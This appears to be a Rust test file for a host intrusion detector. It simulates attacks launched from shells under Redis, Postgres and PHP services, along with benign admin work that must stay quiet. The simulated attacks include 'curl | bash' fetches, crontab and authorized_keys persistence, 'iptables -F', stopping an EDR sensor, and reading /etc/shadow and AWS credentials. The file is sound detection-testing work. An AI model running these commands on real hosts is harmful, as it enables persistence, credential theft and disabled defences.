//! What happens below a network service: intruders who need no connection of their own, and applications that administer
//! the host.

use super::operations::steps::{fetch, fetch_and_start, run};
use crate::{
    model::{ProcessKey, Verdict},
    testing::{Host, alerts, story, verdict},
};

/// What is done below `init`.
type Work = fn(&mut Host, ProcessKey);

fn host() -> (Host, ProcessKey) {
    let mut host = Host::new();
    let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
    (host, init)
}

/// A service whose shell runs a script that came with the request. Returns the shell.
fn commanded(host: &mut Host, init: ProcessKey, service: &str) -> ProcessKey {
    let service = host.spawn(init, service, &["x"]);
    host.spawn(service, "/usr/bin/bash", &["bash", "-c", "id; uname -a"])
}

/// A service whose shell was told `curl … | bash`. Returns the shell that reads what was fetched.
fn fed(host: &mut Host, init: ProcessKey, service: &str) -> ProcessKey {
    let service = host.spawn(init, service, &["x"]);
    let shell = host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl -s http://cdn.example/i | bash"]);
    let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-s", "http://cdn.example/i"]);
    let bash = host.spawn(shell, "/usr/bin/bash", &["bash"]);
    host.connect(curl, "198.51.100.66:80");
    host.exit(curl);
    bash
}

const REDIS: &str = "/usr/bin/redis-server";
const PHP: &str = "/usr/sbin/php-fpm8.2";

const INTRUSIONS: [(&str, Work); 9] = [
    ("a job by a shell of a database", |host, init| {
        let shell = commanded(host, init, REDIS);
        host.create(shell, "/etc/cron.d/z", 0o644);
    }),
    ("a key by a program of a database's shell", |host, init| {
        let shell = commanded(host, init, "/usr/lib/postgresql/15/bin/postgres");
        let tee = host.spawn(shell, "/usr/bin/tee", &["tee", "-a", "/root/.ssh/authorized_keys"]);
        host.write(tee, "/root/.ssh/authorized_keys");
    }),
    ("a database that saves its data as a job", |host, init| {
        let redis = host.spawn(init, REDIS, &["redis-server *:6379"]);
        host.create(redis, "/var/spool/cron/crontabs/temp-1.rdb", 0o644);
        host.rename(redis, "/var/spool/cron/crontabs/temp-1.rdb", "/var/spool/cron/crontabs/root");
    }),
    ("a database that saves its data as a key list", |host, init| {
        let redis = host.spawn(init, REDIS, &["redis-server *:6379"]);
        host.create(redis, "/root/.ssh/temp-1.rdb", 0o644);
        host.rename(redis, "/root/.ssh/temp-1.rdb", "/root/.ssh/authorized_keys");
    }),
    ("a job and an open firewall by a web application", |host, init| {
        let shell = commanded(host, init, PHP);
        host.create(shell, "/etc/cron.d/z", 0o644);
        run(host, shell, "iptables -F");
    }),
    ("defences switched off by what a web application fetched", |host, init| {
        let bash = fed(host, init, PHP);
        run(host, bash, "systemctl stop falcon-sensor");
        run(host, bash, "iptables -F");
        run(host, bash, "setenforce 0");
    }),
    ("credentials looked for by what a database fetched", |host, init| {
        let bash = fed(host, init, REDIS);
        run(host, bash, "cat /root/.aws/credentials");
        run(host, bash, "cat /etc/shadow");
        run(host, bash, "find / -name id_rsa");
        host.write(bash, "/var/log/auth.log");
        host.create(bash, "/root/.ssh/authorized_keys", 0o600);
    }),
    ("a program in an ordinary place", |host, init| {
        let shell = commanded(host, init, REDIS);
        let program = fetch_and_start(host, shell, "http://198.51.100.66/kw", "/etc/kw", "198.51.100.66:80");
        host.connect(program, "198.51.100.66:443");
    }),
    ("a program moved to a place of the system", |host, init| {
        let shell = commanded(host, init, PHP);
        fetch(host, shell, "http://cdn.example/x", "/tmp/x", "198.51.100.66:80");
        host.rename(shell, "/tmp/x", "/usr/local/sbin/kaudited");
        host.chmod(shell, "/usr/local/sbin/kaudited", 0o755);
        let program = host.spawn(shell, "/usr/local/sbin/kaudited", &["kaudited"]);
        host.connect(program, "198.51.100.66:443");
    }),
];

#[test]
fn intruders_are_found_below_services() {
    for (name, intrusion) in INTRUSIONS {
        let (mut host, init) = host();
        intrusion(&mut host, init);
        assert_eq!(verdict(&host), Some(Verdict::Suspected), "{name}: {}", story(&alerts(&host)));
    }
}

const USUAL: [(&str, Work); 6] = [
    ("a panel that writes a job for a customer", |host, init| {
        let shell = commanded(host, init, PHP);
        run(host, shell, "crontab -u web1 /srv/panel/jobs/web1");
        host.create(shell, "/etc/cron.d/web1", 0o644);
    }),
    ("a forge that writes the keys of its users", |host, init| {
        let forge = host.spawn(init, "/usr/local/bin/gitea", &["gitea", "web"]);
        host.create(forge, "/var/lib/git/.ssh/authorized_keys", 0o600);
    }),
    ("a database that archives its log", |host, init| {
        let shell = commanded(host, init, "/usr/lib/postgresql/15/bin/postgres");
        run(host, shell, "test ! -f /srv/wal/1");
        run(host, shell, "cp pg_wal/1 /srv/wal/1");
    }),
    ("a database whose archiver reads its password", |host, init| {
        let shell = commanded(host, init, "/usr/lib/postgresql/15/bin/postgres");
        run(host, shell, "cat /var/lib/postgresql/.pgpass");
        run(host, shell, "gzip -c pg_wal/1");
    }),
    ("a start script that fetches the server that it becomes", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/opt/app/start.sh");
        fetch(host, script, "https://n.example/n", "/opt/app/bin/node", "198.51.100.7:443");
        host.chmod(script, "/opt/app/bin/node", 0o755);
        host.exec(script, init, "/opt/app/bin/node", "/opt/app/bin/node", &["node", "server.js"]);
        host.connect(script, "198.51.100.7:443");
    }),
    ("a health check of a web application", |host, init| {
        let shell = commanded(host, init, PHP);
        let curl =
            host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/dev/null", "https://api.example/health"]);
        host.connect(curl, "198.51.100.7:443");
    }),
];

#[test]
fn usual_work_below_services_is_quiet() {
    for (name, work) in USUAL {
        let (mut host, init) = host();
        work(&mut host, init);
        assert!(verdict(&host) < Some(Verdict::Suspected), "{name}: {}", story(&alerts(&host)));
    }
}

/// A tool that fetches a program, keeps it in a hidden directory of its own and runs it.
fn tool_runs(host: &mut Host, tool: ProcessKey, path: &str) {
    host.connect(tool, "198.51.100.7:443");
    host.create(tool, path, 0o755);
    let plugin = host.spawn(tool, path, &[path]);
    host.connect(plugin, "198.51.100.8:443");
}

#[test]
fn tools_keep_what_they_fetch_in_directories_of_their_own() {
    for path in [
        "/srv/infra/.terragrunt-cache/x/.terraform/providers/aws/terraform-provider-aws_v5",
        "/root/.sonar/cache/0f7a/jdk-17/bin/java",
        "/root/.config/packer/plugins/github.com/x/packer-plugin-x",
        "/root/.anything/at/all/plugin",
    ] {
        let (mut host, init) = host();
        let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
        let shell = host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "tool apply"]);
        let tool = host.spawn(shell, "/usr/local/bin/tool", &["tool", "apply"]);
        tool_runs(&mut host, tool, path);
        assert!(verdict(&host) < Some(Verdict::Suspected), "{path}: {}", story(&alerts(&host)));
    }
    // A tool that lies in a hidden place itself, and a shell, are no such tools.
    for tool in ["/root/.x/fetcher", "/usr/bin/bash"] {
        let (mut host, init) = host();
        let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
        let tool = host.spawn(cron, tool, &["x"]);
        tool_runs(&mut host, tool, "/root/.x/plugin");
        assert_eq!(verdict(&host), Some(Verdict::Suspected), "{tool}: {}", story(&alerts(&host)));
    }
}
